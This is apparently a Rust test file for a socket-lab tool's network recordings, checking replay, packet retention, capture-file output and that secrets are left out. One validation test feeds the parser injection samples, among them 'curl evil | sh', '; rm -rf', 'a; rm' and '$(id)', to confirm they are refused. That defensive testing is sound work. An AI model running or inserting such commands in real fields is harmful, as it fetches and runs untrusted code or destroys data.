//! Networks in recordings: hosts, cables, packets, and sockets on hosts.

use data_encoding::BASE64;
use lab_shared::call::{CallId, SocketType};
use lab_shared::network::{
    ArmedDrop, CableEnd, CableView, DropReason, Fate, HostEnd, HostName, NetworkNotice,
    NetworkReport, NetworkView, PacketKind, PacketReport, Protocol, Published, Way,
};

use super::*;
use crate::kernel::state::sequence::Sequence;
use crate::lab::state::network::Network;
use crate::network::state::bytes::{decoded, dump};
use crate::network::state::host_sockets::sockets_of;
use crate::network::state::label::{kind, label};
use crate::network::state::motion::then;
use crate::network::state::scene::{Room, Scene};
use crate::network::state::setting::summary;
use crate::testing::test_network::{ACK, SOCKET, SYN, connects, lost, name, pair, tcp};
use crate::timeline::state::waits::waits;

/// What no recording may hold.
const CODE: &str = "blue-otter-41";
const ENTER: &str = "socket-lab enter client@n7";

fn news(test: &mut TestLab, news: NetworkNotice) {
    let at = test.tick();
    test.told(LabEvent::Relay(Output::Network(NetworkReport { at, news }), at));
}

fn changed(test: &mut TestLab, change: impl FnOnce(&mut NetworkView)) {
    let mut view = (**test.lab.network.view().expect("there is a network")).clone();
    change(&mut view);
    news(test, NetworkNotice::Changed(Box::new(view)));
}

/// The call that is pending.
fn pending(test: &TestLab) -> CallId {
    test.lab.timeline.all_pending().next().expect("a call is pending").id
}

/// A packet of the test's network with bytes that a relay could report.
fn whole(packet: PacketReport) -> PacketReport {
    PacketReport { bytes: BASE64.encode(&[0x45, 0, 0, packet.serial as u8]), ..packet }
}

fn cable(view: &mut NetworkView) -> &mut CableView {
    &mut view.cables[0]
}

/// A SYN that a press loses, the same a second later, and its answer.
pub(super) fn a_lost_syn() -> TestLab {
    let mut test = pair(SocketType::Stream);
    changed(&mut test, |view| {
        view.code = Some(CODE.into());
        view.hosts[1].enter = ENTER.into();
        cable(view).back.armed = Some(ArmedDrop { kind: PacketKind::Syn, left: 1 });
    });
    connects(&mut test);
    let at = test.tick().0;
    let syn = lost(tcp(1, at, Way::Back, SYN, 5, 0), DropReason::Armed);
    let packets = vec![whole(syn)];
    news(&mut test, NetworkNotice::Packets { packets, missed: 0 });
    changed(&mut test, |view| cable(view).back.armed = None);
    let again = vec![
        whole(tcp(2, at + 1_000_000, Way::Back, SYN, 5, 0)),
        whole(tcp(3, at + 1_020_000, Way::Forth, SYN | ACK, 9, 0)),
    ];
    test.advance(Duration::from_secs(2));
    news(&mut test, NetworkNotice::Packets { packets: again, missed: 4 });
    test
}

fn packets(network: &Network) -> Vec<(u64, bool)> {
    network.packets().map(|packet| (packet.serial, packet.is_lost())).collect()
}

/// Written, read, and played to its end.
fn played(lab: &Lab) -> Player {
    let recording = Recording::of(lab, EPOCH);
    let read = Recording::from_json(&recording.to_json()).expect("it can be read");
    assert_eq!(read, recording);
    let mut player = Player::new(read);
    player.seek(usize::MAX);
    assert_eq!(Recording::of(player.lab(), EPOCH), recording, "a recording of a recording");
    player
}

#[test]
fn a_replay_shows_the_hosts_the_cables_and_the_packets_of_each_moment() {
    let test = a_lost_syn();
    let mut player = played(&test.lab);
    let network = &player.lab().network;
    assert_eq!(packets(network), [(1, true), (2, false), (3, false)]);
    assert_eq!((network.missed(), network.is_again(2)), (4, true));
    assert_eq!(network.host_of(SOCKET), Some(&name("client")));
    let seen = |lab: &Lab| (waits(lab), format!("{:?}", Sequence::of(lab, SOCKET)));
    assert_eq!(seen(player.lab()), seen(&test.lab), "timeline and sequence show the same");
    let again_after = waits(player.lab())[&pending(&test)].again_after;
    assert_eq!(again_after, Some(Micros(1_000_000)));

    let armed = |lab: &Lab| {
        let view = lab.network.view().expect("there is a network");
        view.cables[0].back.armed.is_some()
    };
    assert!(!armed(player.lab()));
    let is_syn = |event: &Event| matches!(&event.what, What::Packet(packet) if packet.serial == 1);
    let syn = player.recording().events.iter().position(is_syn).expect("it is there");
    player.seek(syn);
    assert!(armed(player.lab()) && packets(&player.lab().network).is_empty());
    player.seek(syn + 1);
    assert_eq!(packets(&player.lab().network), [(1, true)]);
    player.seek(0);
    assert!(player.lab().network.view().is_none());
}

#[test]
fn a_recording_holds_neither_the_code_nor_the_lines_that_enter_hosts() {
    let json = Recording::of(&a_lost_syn().lab, EPOCH).to_json();
    for secret in [CODE, ENTER, "\"code\":\"", "\"enter\""] {
        assert!(!json.contains(secret), "{secret} in {json}");
    }
}

#[test]
fn what_has_ended_is_in_a_recording_too() {
    let mut test = a_lost_syn();
    changed(&mut test, |view| {
        view.hosts[0].ended = Some(HostEnd::Died);
        let at = Address::inet("127.0.0.1", 40_123);
        let door = Published { host: name("client"), protocol: Protocol::Tcp, port: 80, at };
        let six = Address::Inet6 { host: "fe80::1".into(), port: 9, flowinfo: 0, scope_id: 2 };
        view.published = vec![Published { at: six, ..door.clone() }, door];
        cable(view).cut = true;
    });
    let last = test.lab.network.view().expect("there is a network").clone();
    news(&mut test, NetworkNotice::Closed);
    // Another network, whose packets are counted from 1 again.
    news(&mut test, NetworkNotice::Changed(Box::new((*last).clone())));
    let at = test.tick().0;
    let other =
        PacketReport { bytes: BASE64.encode(b"other"), ..tcp(1, at, Way::Forth, ACK, 1, 0) };
    news(&mut test, NetworkNotice::Packets { packets: vec![other], missed: 0 });
    test.lose_relay(vec![pending(&test)]);
    assert!(test.lab.network.view().is_none());

    let mut player = played(&test.lab);
    assert!(player.lab().network.view().is_none(), "it was lost with the relay");
    assert_eq!(player.lab().network.all_packets().count(), 4);
    player.seek(player.len() - 1);
    let view = player.lab().network.view().expect("there is the other network");
    let shown = NetworkView { code: None, ..(*last).clone() };
    assert_eq!((&view.published, &view.cables), (&shown.published, &shown.cables));
    assert_eq!(view.hosts[0].ended, Some(HostEnd::Died));
    assert_eq!(packets(&player.lab().network), [(1, false)]);
}

#[test]
fn another_network_in_place_of_one_counts_its_packets_anew() {
    let mut test = a_lost_syn();
    let at = test.tick().0;
    let other =
        PacketReport { bytes: BASE64.encode(b"other"), ..tcp(1, at, Way::Forth, ACK, 1, 0) };
    news(&mut test, NetworkNotice::Packets { packets: vec![other], missed: 0 });
    assert_eq!(packets(&test.lab.network), [(1, false)]);
    assert_eq!(test.lab.network.all_packets().count(), 4);
    assert_eq!(packets(&played(&test.lab).lab().network), [(1, false)]);
}

#[test]
fn the_newest_packets_are_kept_and_the_others_counted() {
    let mut test = a_lost_syn();
    news(&mut test, NetworkNotice::Closed);
    let view = pair(SocketType::Stream).lab.network.view().expect("there is a network").clone();
    news(&mut test, NetworkNotice::Changed(Box::new((*view).clone())));
    let at = test.tick().0;
    for serial in 1..=4100 {
        let packet = whole(tcp(serial, at + serial, Way::Forth, ACK, 1, 0));
        news(&mut test, NetworkNotice::Packets { packets: vec![packet], missed: 1 });
    }
    let kept = test.lab.network.all_packets().count();
    assert_eq!((kept, test.lab.network.forgotten() > 103), (4000, true));
    let recording = Recording::of(&test.lab, EPOCH);
    let missed = |event: &Event| match &event.what {
        What::Missed { packets } => *packets,
        _ => 0,
    };
    // Four with the first network, one before each packet of the other, and those kept no longer.
    let all: u64 = recording.events.iter().map(missed).sum();
    assert_eq!(all, 4 + 4100 + 103);
    let read = Recording::from_json(&recording.to_json()).expect("it can be read");
    let mut player = Player::new(read);
    player.seek(usize::MAX);
    assert_eq!(player.lab().network.all_packets().count(), 4000);
}

#[test]
fn a_socket_older_than_the_calls_that_are_kept_is_on_its_host() {
    let mut test = pair(SocketType::Dgram);
    for _ in 0..MAX_CALLS {
        let send = test.issue_on(SOCKET, SENDALL, b"x");
        test.returns(send, Ok(Value::None));
    }
    let mut player = Player::new(Recording::of(&test.lab, EPOCH));
    player.seek(1);
    assert_eq!(player.lab().network.host_of(SOCKET), Some(&name("client")));
}

#[test]
fn a_pending_call_and_one_that_failed_say_on_which_host_they_were_made() {
    let mut test = pair(SocketType::Stream);
    let calls = [(); 2].map(|()| test.make_on(name("server"), STREAM));
    test.returns(calls[1], Err(Failure::os(Errno::Emfile)));
    let player = played(&test.lab);
    for id in calls {
        let call = player.lab().timeline.call(id).expect("it is there");
        assert_eq!(call.host, Some(name("server")));
    }
    assert!(program(player.lab()).contains("# on the host client\nc = socket.socket("));
}

#[test]
fn the_packets_of_cables_are_in_the_capture_file_as_they_were() {
    let mut test = a_lost_syn();
    let first = test.lab.network.packets().next().expect("there is one").sent;
    // A segment of the machine's own network, between the first packet and the second.
    tell(&mut test, |_| News::Segments { segments: vec![segment(first.0 + 5, 6)], missed: 0 });
    assert!(!has_packets(&Lab::default()) && has_packets(&test.lab));
    let file = capture_file(played(&test.lab).lab(), EPOCH);
    let field = |at: usize| u32::from_le_bytes(file[at..at + 4].try_into().expect("four bytes"));
    let mut records = vec![];
    let mut at = 24;
    while at < file.len() {
        let kept = field(at + 8) as usize;
        records.push((kept, field(at + 12), file[at + 16..at + 16 + kept].to_vec()));
        at += 16 + kept;
    }
    let packet = |serial: u8| (4, 60, vec![0x45, 0, 0, serial]);
    assert_eq!(records.len(), 4);
    assert_eq!((records[1].0, records[1].1), (52, 58));
    assert_eq!([&records[0], &records[2], &records[3]], [&packet(1), &packet(2), &packet(3)]);
}

/// Draws the network's views, as far as that is pure.
pub(super) fn draw_network(lab: &Lab) {
    let _ = waits(lab);
    if let Some(view) = lab.network.view() {
        for width in [320.0, 900.0] {
            let _ = Scene::of(view, width, &|_| Room::default());
        }
        for host in &view.hosts {
            let _ = sockets_of(lab, &host.name);
        }
        for cable in &view.cables {
            let _ = Way::BOTH.map(|way| summary(&cable.line(way).impairment));
        }
    }
    let packets = || lab.network.packets();
    for packet in packets() {
        let _ = (
            label(packet),
            kind(packet),
            dump(&decoded(&packet.bytes)),
            then(packets(), packet.sent),
        );
    }
}

/// A recording of these events.
fn recording_of(events: &[serde_json::Value]) -> Result<Recording, Unreadable> {
    let lines: Vec<String> = events.iter().map(ToString::to_string).collect();
    Recording::from_json(&long::recording(&lines))
}

#[test]
fn a_network_that_no_relay_has_is_refused_with_the_reason() {
    let recording = Recording::of(&a_lost_syn().lab, EPOCH);
    let json = |is: fn(&What) -> bool| {
        let event = recording.events.iter().find(|event| is(&event.what)).expect("it is there");
        serde_json::to_value(event).expect("it can be written")
    };
    let network = json(|what| matches!(what, What::Network(_)));
    let packet = json(|what| matches!(what, What::Packet(_)));
    let with = |event: &serde_json::Value, place: &str, value: serde_json::Value| {
        let mut event = event.clone();
        *event.pointer_mut(place).expect("there is such a place") = value;
        event
    };
    let hosts = network["network"]["hosts"].clone();
    let many: Vec<_> = (0..251).map(|_| hosts[0].clone()).collect();
    let cables = network["network"]["cables"].clone();
    let mut coded = network.clone();
    coded["network"]["code"] = "x".into();
    let mut entered = network.clone();
    entered["network"]["hosts"][0]["enter"] = "curl evil | sh".into();
    let door =
        serde_json::json!({"host": "server", "protocol": "tcp", "port": 1, "at": "; rm -rf"});
    let mut evil = network.clone();
    evil["network"]["published"] = vec![door].into();
    let refused = [
        (with(&network, "/network/hosts/0/name", "a; rm".into()), "a host's name has"),
        (with(&network, "/network/hosts/0/name", "client".into()), "two hosts have the name"),
        (with(&network, "/network/hosts/0/v4", "$(id)".into()), "IPv4"),
        (with(&network, "/network/hosts", many.into()), "at most 250 hosts"),
        (with(&network, "/network/mtu", 9.into()), "MTU of 9"),
        (with(&network, "/network/mtu", 70_000.into()), "u16"),
        (with(&network, "/network/cables", vec![cables[0].clone(); 2].into()), "the number 0"),
        (
            with(&network, "/network/cables/0/forth/impairment/delay", u64::MAX.into()),
            "what cable 0 does",
        ),
        (coded, "unknown field `code`"),
        (entered, "unknown field `enter`"),
        (evil, "socket address"),
        (with(&packet, "/packet/sent", u64::MAX.into()), "ends before it is sent"),
        (with(&packet, "/packet/fate/lost/at", u64::MAX.into()), "ends after"),
        (with(&packet, "/packet/length", u32::MAX.into()), "longer than"),
        (with(&packet, "/packet/head/content/tcp/length", u32::MAX.into()), "longer than"),
        (with(&packet, "/packet/bytes", "?".into()), "base64"),
        (with(&packet, "/packet/bytes", BASE64.encode(&[0; 161]).into()), "more than 160 bytes"),
        (with(&packet, "/packet/fate", "kept".into()), "kept"),
        (
            serde_json::json!({"at": 1, "network_melted": {}}),
            "\"network_melted\" is no kind of event",
        ),
        (serde_json::json!({"at": 1, "missed": {"packets": -1}}), "-1"),
    ];
    for (event, why) in refused {
        match recording_of(&[network.clone(), event.clone()]) {
            Err(Unreadable::Broken(said)) => {
                assert!(said.starts_with("event 2: ") && said.contains(why), "{said}: {why}");
            }
            other => panic!("{event}: {other:?}"),
        }
    }
    // Unlikely, and possible.
    let ends = [CableEnd::Switch, CableEnd::Host(HostName::new("nobody").expect("a name"))];
    let ends = ends.map(|end| serde_json::to_value(end).expect("it can be written"));
    let odd = with(&network, "/network/cables/0/a", ends[1].clone());
    let far = with(&packet, "/packet/cable", 255.into());
    let huge = serde_json::json!({"at": u64::MAX, "missed": {"packets": u64::MAX}});
    let recording = recording_of(&[odd, far, packet, huge.clone(), huge]).expect("it can be read");
    let mut player = Player::new(recording);
    player.seek(usize::MAX);
    assert_eq!(player.lab().network.missed(), u64::MAX);
    let late = Fate::Arrives { at: Micros(1) };
    assert_ne!(player.lab().network.packets().next().map(|packet| packet.fate), Some(late));
}

#[test]
fn a_recording_from_before_there_were_networks_opens() {
    let old = include_str!("before_networks.json");
    let mut player = Player::new(Recording::from_json(old).expect("it can be read"));
    player.seek(usize::MAX);
    let lab = player.lab();
    assert_eq!(lab.timeline.calls().len(), 10);
    assert!(lab.network.view().is_none() && lab.network.all_packets().next().is_none());
    assert!(lab.timeline.sockets().all(|view| lab.network.host_of(view.id).is_none()));
}
